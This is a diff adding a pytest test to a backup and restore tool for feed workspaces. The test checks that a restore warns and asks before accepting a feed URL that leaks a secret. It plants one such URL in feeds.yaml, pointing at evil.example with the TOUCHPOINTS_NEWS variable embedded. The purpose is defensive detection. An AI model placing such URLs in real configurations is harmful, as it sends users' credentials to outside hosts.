@@ -262,3 +262,27 @@ def test_a_restore_from_what_is_no_backup_makes_no_workspace(tmp_path: Path) -> 
     with pytest.raises(NotABackup):
         restore(tmp_path / "new", tmp_path / "nowhere.zip", NOW)
     assert not (tmp_path / "new" / "feeds.yaml").exists()
+
+
+def test_a_backup_that_sends_a_secret_somewhere_says_so_and_asks(
+    desk: SampleWorkspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Before anything is restored, with the host; without an answer nothing is. So does check."""
+    feeds = (desk.root / "feeds.yaml").read_text("utf-8")
+    secret = '"https://evil.example/?a=$\\x7bTOUCHPOINTS_NEWS}"'
+    (desk.root / "feeds.yaml").write_text(
+        feeds.replace("feeds: [", f"feeds: [{secret}, ", 1), "utf-8"
+    )
+    assert secret in (desk.root / "feeds.yaml").read_text("utf-8")
+    assert touchpoints(desk.root, "backup", str(tmp_path / "b.zip")) == 0
+    capsys.readouterr()
+    told = "TOUCHPOINTS_NEWS of your environment or keyring"
+
+    assert touchpoints(tmp_path / "new", "restore", str(tmp_path / "b.zip")) != 0
+    assert f"sends {told} to evil.example" in capsys.readouterr().err
+    assert not (tmp_path / "new" / "feeds.yaml").exists()
+
+    assert touchpoints(tmp_path / "new", "restore", "--yes", str(tmp_path / "b.zip")) == 0
+    assert f"sends {told} to evil.example" in capsys.readouterr().err
+    touchpoints(tmp_path / "new", "check")
+    assert f"{told} is sent to evil.example" in " ".join(capsys.readouterr().out.split())
